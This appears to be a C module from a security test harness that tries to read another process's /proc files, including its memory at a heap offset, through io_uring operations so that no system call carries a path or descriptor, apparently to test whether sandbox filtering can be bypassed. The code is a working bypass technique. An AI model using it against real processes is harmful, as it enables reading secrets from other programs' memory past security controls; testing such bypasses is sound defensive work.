/*
 * uring.c - the same files through io_uring, where no system call has a path or a descriptor as an argument.
 */
#include "../attack.h"

#include <linux/io_uring.h>

enum { ENTRIES = 4, WAIT_MS = 2000, STEP_MS = 5 };

struct ring {
	int fd;
	char *at;
	struct io_uring_sqe *entries;
	struct io_uring_params params;
};

static int start_ring(struct ring *ring, unsigned flags)
{
	size_t size;

	*ring = (struct ring){ .params = { .flags = flags } };
	ring->fd = (int)syscall(SYS_io_uring_setup, ENTRIES, &ring->params);
	if (ring->fd < 0)
		return -errno;
	size = ring->params.sq_off.array + ENTRIES * sizeof(uint32_t);
	if (size < ring->params.cq_off.cqes + ring->params.cq_entries * sizeof(struct io_uring_cqe))
		size = ring->params.cq_off.cqes + ring->params.cq_entries * sizeof(struct io_uring_cqe);
	ring->at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQ_RING);
	ring->entries = mmap(NULL, ENTRIES * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd,
			     IORING_OFF_SQES);
	return ring->at == MAP_FAILED || ring->entries == MAP_FAILED ? -errno : 0;
}

static uint32_t *word_of(const struct ring *ring, uint32_t offset)
{
	return (uint32_t *)(void *)(ring->at + offset);
}

/* One operation, waited for. */
static int operate(struct ring *ring, const struct io_uring_sqe *operation)
{
	uint32_t *tail = word_of(ring, ring->params.sq_off.tail), *seen = word_of(ring, ring->params.cq_off.head);
	const uint32_t *done = word_of(ring, ring->params.cq_off.tail);
	const struct io_uring_cqe *results = (void *)(ring->at + ring->params.cq_off.cqes);
	uint32_t slot = *tail & (ring->params.sq_entries - 1);
	int result;

	ring->entries[slot] = *operation;
	word_of(ring, ring->params.sq_off.array)[slot] = slot;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS | IORING_ENTER_SQ_WAKEUP, NULL, 0) < 0)
		return -errno;
	for (int waited = 0; __atomic_load_n(done, __ATOMIC_ACQUIRE) == *seen; waited += STEP_MS) {
		if (waited > WAIT_MS)
			return -ETIMEDOUT;
		pause_ms(STEP_MS);
	}
	result = results[*seen & (ring->params.cq_entries - 1)].res;
	__atomic_store_n(seen, *seen + 1, __ATOMIC_RELEASE);
	return result;
}

static int open_with(struct ring *ring, const char *path, long how)
{
	static struct {
		uint64_t flags, mode, resolve;
	} plain = { O_RDONLY, 0, 0 };
	struct io_uring_sqe operation = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)path };

	if (how & OPENAT2) {
		operation.opcode = IORING_OP_OPENAT2;
		operation.off = (uintptr_t)&plain;
		operation.len = sizeof(plain);
	}
	if (how & AS_WORKER)
		operation.flags = IOSQE_ASYNC;
	if (how & FIXED)
		operation.file_index = 1;
	return operate(ring, &operation);
}

/* From an offset, or with none from the beginning. */
static int read_with(const struct attack *a, struct ring *ring, int fd, unsigned long long offset, long how)
{
	static unsigned char buffer[4096];
	struct io_uring_sqe operation = { .opcode = IORING_OP_READ, .fd = fd, .addr = (uintptr_t)buffer, .off = offset };
	int got;

	operation.len = (uint32_t)(offset != 0 ? a->target.length : sizeof(buffer));
	if (how & AS_WORKER)
		operation.flags = IOSQE_ASYNC;
	if (how & FIXED)
		operation.flags |= IOSQE_FIXED_FILE;
	got = operate(ring, &operation);
	if (got <= 0)
		return got < 0 ? got : -ENODATA;
	return saw(a, buffer, (size_t)got);
}

int uring_open_and_read(struct attack *a)
{
	int empty = -1, fd, is_memory = strcmp(a->row->text, "mem") == 0;
	struct ring ring;
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/%d/%s", (int)a->target.pid, a->row->text);
	fd = start_ring(&ring, a->row->number & AS_POLLER ? IORING_SETUP_SQPOLL : 0);
	if (fd < 0)
		return fd == -EPERM ? not_here(a, "io_uring is off") : fd;
	if (a->row->number & FIXED && syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_FILES, &empty, 1) < 0)
		return -errno;
	fd = open_with(&ring, path, a->row->number);
	if (fd < 0)
		return fd;
	return read_with(a, &ring, fd, is_memory ? a->target.heap : 0, a->row->number);
}

int uring_open(struct attack *a)
{
	struct ring *ring = mmap(NULL, sizeof(*ring), PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int failed = ring == MAP_FAILED ? -errno : start_ring(ring, 0);

	a->at = ring;
	if (failed == 0)
		a->fd = open_of(a->target.pid, "mem", O_RDONLY);
	if (failed < 0 || a->fd < 0)
		return failed < 0 ? failed : a->fd;
	if (!(a->row->number & FIXED))
		return 0;
	if (syscall(SYS_io_uring_register, ring->fd, IORING_REGISTER_FILES, &a->fd, 1) < 0)
		return -errno;
	(void)close(a->fd);
	a->fd = 0; /* its index */
	return 0;
}

int uring_read(struct attack *a)
{
	return read_with(a, a->at, a->fd, a->target.heap, a->row->number);
}
